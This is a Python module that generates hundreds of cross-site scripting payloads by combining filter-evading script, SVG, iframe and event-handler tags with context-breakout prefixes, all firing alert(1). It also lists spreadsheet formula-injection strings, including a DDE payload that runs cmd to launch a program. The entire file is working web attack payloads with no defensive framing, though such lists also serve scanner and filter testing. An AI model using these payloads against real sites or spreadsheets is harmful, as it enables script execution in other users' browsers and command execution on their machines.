"""Strings that run a script wherever a page forgets to escape them: known shapes, in every disguise, hundreds."""

from collections.abc import Iterator

CALL = "alert(1)"
TAGS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT\t>",
    "<script\x0c>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<img src=x onerror={}>",
    "<img/src=`x`onerror={}>",
    '<IMG """><SCRIPT>{}</SCRIPT>">',
    "<svg onload={}>",
    "<svg/onload={}//",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{}'><text y=9>x</text></a></svg>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<body onload={}>",
    "<iframe src='javascript:{}'></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<a href='javascript:{}'>x</a>",
    "<form><button formaction='javascript:{}'>x</button></form>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<link rel=stylesheet href='javascript:{}'>",
    "<style>@import 'javascript:{}';</style>",
    "<template><script>{}</script></template><script>{}</script>",
    "<x contenteditable onblur={} id=x autofocus>",
    "<xss onpointerrawupdate={}>",
)
BREAKOUTS = (
    "{}",
    "\"'>{}",
    '\'" onmouseover=alert(1) autofocus onfocus=alert(1) x="{}',
    "</title></textarea></style></script></svg>{}",
    "--><!-- -->]]>{}",
    "`${{alert(1)}}`{}",
    "{{{{constructor.constructor('alert(1)')()}}}}{}",
    "&lt;&#x3c;\\u003c%3C{}",
    "\u202e\u2028\ufeff{}\u2029",
    "javascript:alert(1)//{}",
)
FORMULAS = ('=HYPERLINK("javascript:alert(1)")', "@SUM(1+1)*cmd|' /C calc'!A0", "+alert(1)", "-alert(1)")


def payloads() -> Iterator[str]:
    """Each shape behind each way out of what may be around it."""
    for breakout in BREAKOUTS:
        for tag in TAGS:
            yield breakout.format(tag.replace("{}", CALL))
    yield from FORMULAS
